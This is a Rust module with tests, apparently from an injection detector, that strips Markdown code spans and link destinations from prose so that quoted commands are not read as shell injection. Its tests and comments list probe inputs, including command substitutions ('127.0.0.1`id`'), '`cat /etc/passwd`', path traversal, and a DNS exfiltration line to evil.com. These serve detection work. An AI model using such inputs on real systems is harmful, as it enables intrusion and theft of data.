//! Markdown code quoted in prose: `` run `ls -la` first `` in a chat message, a support ticket
//! or a search box is a person writing about a command, not a shell running one.
//!
//! A backtick is also the shell's command substitution, so the shell rules count it as a
//! separator. That made every coding question a command injection: chat clients resend the
//! assistant's earlier answers, full of code spans and fenced blocks, with each turn. The
//! shell form ([`super::fold::shell`]) therefore leaves out code quoted this way, under
//! conditions a probe does not meet: the value must be prose (words outside the code), and
//! each span must stand as Markdown writes it, opened after a space and closed before one or
//! before punctuation. `` `id` `` alone, ``127.0.0.1`id` `` and ``;`id` `` are still read.
//! Only the shell form reads it so: markup, SQL and paths inside the code are still checked.
//!
//! A link's destination in Markdown prose is left out the same way (`see the
//! [guide](../../BUILDING.md)`, `[guide]: ../../BUILDING.md`): a browser resolves it against
//! the page, and no app opens it as a file.

use std::collections::HashMap;
use std::ops::Range;

use super::Needle;

static LINK_DESTINATION_OPEN: Needle = Needle::new("](");
static REFERENCE_DEFINITION: Needle = Needle::new("]:");

/// `text` with each quoted code span, fenced block or link destination replaced by a space,
/// when `text` is prose with such code in it; `None` when there is nothing to leave out.
pub(super) fn without_quoted_code(text: &str) -> Option<String> {
    let bytes = text.as_bytes();
    memchr::memchr2(b'`', b']', bytes)?;
    let code = quoted_spans(bytes);
    let links: Vec<_> = link_destinations(bytes)
        .into_iter()
        .filter(|link| {
            !code
                .iter()
                .any(|span| span.start < link.end && link.start < span.end)
        })
        .collect();
    // Links count only in prose around them; a value that is little more than a link
    // (`[a](../../etc/passwd)`) is read with its destination, and its code left out as before
    // when the destination's words make it prose (`[`Sleep`]: crate::time::Sleep`).
    if !links.is_empty() {
        let mut spans = [code.as_slice(), links.as_slice()].concat();
        spans.sort_by_key(|span| span.start);
        let prose = replaced_by_spaces(text, &spans);
        if words(&prose) >= MIN_PROSE_WORDS {
            return Some(prose);
        }
    }
    if code.is_empty() {
        return None;
    }
    let prose = replaced_by_spaces(text, &code);
    (words(&prose) >= MIN_PROSE_WORDS).then_some(prose)
}

/// `text` with each of the sorted, disjoint `spans` replaced by a space.
fn replaced_by_spaces(text: &str, spans: &[Range<usize>]) -> String {
    let mut out = String::with_capacity(text.len());
    let mut from = 0;
    for span in spans {
        out.push_str(&text[from..span.start]);
        out.push(' ');
        from = span.end;
    }
    out.push_str(&text[from..]);
    out
}

/// Words of two letters or more a value needs outside its code to be prose: `` `id` `` alone
/// or after one word (`` a `id` ``) is a probe, `` what does `id` print `` a question.
const MIN_PROSE_WORDS: usize = 2;

/// The byte ranges, delimiters included, of the code spans and fenced blocks that stand as
/// Markdown writes them. As in CommonMark, a run of backticks closes only at the next run of
/// the same length; a run that finds none is a literal backtick.
fn quoted_spans(bytes: &[u8]) -> Vec<Range<usize>> {
    let runs = backtick_runs(bytes);
    // For each run, the index of the next run of the same length: one pass from the end, so
    // a value of many unmatched runs costs linear time, not a search per run.
    let mut next_same = vec![None; runs.len()];
    let mut last_of_len: HashMap<usize, usize> = HashMap::new();
    for (i, run) in runs.iter().enumerate().rev() {
        next_same[i] = last_of_len.insert(run.len(), i);
    }
    let mut spans = Vec::new();
    let mut i = 0;
    while i < runs.len() {
        let open = &runs[i];
        let close = next_same[i].map(|j| (j, &runs[j]));
        match close {
            Some((j, close))
                if opens_span(bytes, open.start)
                    && closes_span(bytes, close.end)
                    && close.start > open.end =>
            {
                spans.push(open.start..close.end);
                i = j + 1;
            }
            _ => i += 1,
        }
    }
    spans
}

/// Every maximal run of backticks.
fn backtick_runs(bytes: &[u8]) -> Vec<Range<usize>> {
    let mut runs = Vec::new();
    let mut from = 0;
    while let Some(at) = memchr::memchr(b'`', &bytes[from..]).map(|at| from + at) {
        let len = bytes[at..].iter().take_while(|&&b| b == b'`').count();
        runs.push(at..at + len);
        from = at + len;
    }
    runs
}

/// The destinations of Markdown's links: `[text](destination)`, and a reference definition
/// that opens a line (`[label]: destination`). Only a destination without spaces counts.
fn link_destinations(bytes: &[u8]) -> Vec<Range<usize>> {
    let destination_len = |from: usize| {
        bytes[from..]
            .iter()
            .take_while(|&&b| !b.is_ascii_whitespace() && !matches!(b, b'(' | b')' | b'<' | b'>'))
            .count()
    };
    let mut found = Vec::new();
    for at in LINK_DESTINATION_OPEN.find_iter(bytes) {
        let start = at + 2;
        let len = destination_len(start);
        if len > 0 && bytes.get(start + len) == Some(&b')') {
            found.push(start..start + len);
        }
    }
    // A definition's label closes at the first `]` of its line: each line is read once, so a
    // value of many `]:` costs one pass, not one per `]:`.
    if REFERENCE_DEFINITION.find_iter(bytes).next().is_some() {
        let mut line_start = 0;
        while line_start < bytes.len() {
            let line_end = memchr::memchr(b'\n', &bytes[line_start..])
                .map_or(bytes.len(), |len| line_start + len);
            if let Some(range) = reference_destination(bytes, line_start, line_end) {
                found.push(range);
            }
            line_start = line_end + 1;
        }
    }
    found
}

/// The destination of a reference definition on the line `bytes[start..end]`, if the line is
/// one: up to three spaces, `[label]:`, a space and a destination.
fn reference_destination(bytes: &[u8], start: usize, end: usize) -> Option<Range<usize>> {
    let line = &bytes[start..end];
    let indent = line.iter().take_while(|&&b| b == b' ').count();
    if indent > 3 || line.get(indent) != Some(&b'[') {
        return None;
    }
    let close = indent + memchr::memchr(b']', &line[indent..])?;
    if line.get(close + 1) != Some(&b':') {
        return None;
    }
    let after = close + 2;
    let spaces = line[after..]
        .iter()
        .take_while(|&&b| b == b' ' || b == b'\t')
        .count();
    let from = after + spaces;
    let len = line[from..]
        .iter()
        .take_while(|&&b| !b.is_ascii_whitespace())
        .count();
    (spaces > 0 && len > 0).then(|| start + from..start + from + len)
}

/// Prose opens code after a space, a line break, a bracket (a link's text in Markdown,
/// ``[`sleep`]``) or a reStructuredText role (``:func:`zip` ``, ``:mod:`base64` ``); an
/// injected substitution sits against what it is injected into (``127.0.0.1`id` ``,
/// ``;`id` ``).
fn opens_span(bytes: &[u8], at: usize) -> bool {
    at == 0 || opens_after(bytes[at - 1]) || after_a_role(&bytes[..at])
}

fn opens_after(byte: u8) -> bool {
    matches!(byte, b' ' | b'\t' | b'\n' | b'\r' | b'(' | b'[')
}

/// `before` ends with a role (`:mod:`, `:py:func:`) that opens a word.
fn after_a_role(before: &[u8]) -> bool {
    let Some(inner) = before.strip_suffix(b":") else {
        return false;
    };
    let name_len = inner
        .iter()
        .rev()
        .take_while(|&&b| b.is_ascii_lowercase() || b == b':')
        .count();
    let (rest, name) = inner.split_at(inner.len() - name_len);
    name.first() == Some(&b':')
        && name.len() > 1
        && !name.windows(2).any(|pair| pair == b"::")
        && rest.last().is_none_or(|&b| opens_after(b))
}

/// Prose closes code before a space, a line break, punctuation (a dash `—` too), a bracket,
/// a possessive or a plural (`` `cmd`'s output ``, `` the `Service`s ``). A dot before a
/// letter or digit is no full stop but a host name going on: ``nslookup `whoami`.evil.com``
/// sends a command's output out through DNS.
fn closes_span(bytes: &[u8], end: usize) -> bool {
    let ends_word = |at: usize| !bytes.get(at).is_some_and(u8::is_ascii_alphanumeric);
    let possessive = bytes.get(end..end + 2) == Some(b"'s") && ends_word(end + 2);
    let plural = bytes.get(end) == Some(&b's') && ends_word(end + 1);
    let full_stop = bytes.get(end) == Some(&b'.') && ends_word(end + 1);
    possessive
        || plural
        || full_stop
        || bytes.get(end).is_some_and(|b| !b.is_ascii())
        || bytes.get(end).is_none_or(|b| {
            matches!(
                b,
                b' ' | b'\t' | b'\n' | b'\r' | b',' | b':' | b'!' | b'?' | b')' | b']'
            )
        })
}

/// Runs of two letters or more, in any script.
fn words(text: &str) -> usize {
    let mut words = 0;
    let mut letters = 0;
    for c in text.chars() {
        if c.is_alphabetic() {
            letters += 1;
            if letters == 2 {
                words += 1;
            }
        } else {
            letters = 0;
        }
    }
    words
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn code_quoted_in_prose_is_left_out() {
        let cases = [
            (
                "how do i run `ls -la` in a folder?",
                "how do i run   in a folder?",
            ),
            ("`whoami` prints the user.", "  prints the user."),
            ("it ends with `make install`.", "it ends with  ."),
            ("try `a` then `b`, or (`c`).", "try   then  , or ( )."),
            (
                "my script:\n```bash\n#!/bin/bash\nnode server.js\n```\nit fails.",
                "my script:\n \nit fails.",
            ),
            // Double backticks quote code holding a backtick.
            ("use ``echo `id` `` here", "use   here"),
            ("中文 说明 `ls -la` 命令", "中文 说明   命令"),
            // Markdown links and possessives.
            (
                "call [`sleep`] and read `cmd`'s output.",
                "call [ ] and read  's output.",
            ),
            ("the `Service`s — `reboot`—now", "the  s —  —now"),
            // Link destinations.
            (
                "see the [guide](../../BUILDING.md) first",
                "see the [guide]( ) first",
            ),
            (
                "[running tests]: ../../BUILDING.md#tests",
                "[running tests]:  ",
            ),
            ("[`sleep`]: crate::time::sleep", "[ ]: crate::time::sleep"),
            // Only the first `]` of a line closes a definition's label.
            (
                "[guide]: a.md ]: ../b ]: ../c\nmore words",
                "[guide]:   ]: ../b ]: ../c\nmore words",
            ),
            (
                "read [`x`](../a.md) and\n  [y]: ../../b.md",
                "read [ ]( ) and\n  [y]:  ",
            ),
        ];
        for (text, prose) in cases {
            assert_eq!(without_quoted_code(text).as_deref(), Some(prose), "{text}");
        }
    }

    #[test]
    fn restructured_text_roles_open_code() {
        assert_eq!(
            without_quoted_code("Add :func:`b85encode` in :mod:`base64`, see :py:class:`type`.")
                .as_deref(),
            Some("Add :func:  in :mod: , see :py:class: .")
        );
        for text in ["words and words x:mod:`id`", "words and words ::`id`"] {
            assert_eq!(without_quoted_code(text), None, "{text}");
        }
    }

    #[test]
    fn probes_and_injected_substitutions_are_kept() {
        for text in [
            "`id`",
            "`cat /etc/passwd`",
            "a `id`",
            "x `id` y",
            "127.0.0.1`id`",
            ";`id`",
            "name=`id` and more words",
            "hello `id`; then more words",
            "words and more `unclosed code",
            "words and more `a`b`",
            "no code here at all",
            "empty `` pair of words",
            "[a](../../../etc/passwd)",
            "words and words x[y]: ../../etc",
            "words and words [y]:../../etc",
            "nslookup `whoami`.evil.com and more words",
        ] {
            assert_eq!(without_quoted_code(text), None, "{text}");
        }
    }

    #[test]
    fn a_span_after_many_unmatched_runs_is_found() {
        // Runs of 1, 2, 3, … backticks, none of which closes another, then one code span.
        let mut text = String::from("words and words");
        for len in 1..400 {
            text.push(' ');
            text.push_str(&"`".repeat(len));
        }
        let prose = without_quoted_code(&format!("{text} run `ls -la` here")).unwrap();
        assert!(prose.ends_with(" run   here"), "{prose}");
        assert!(prose.contains(&"`".repeat(399)));
    }
}
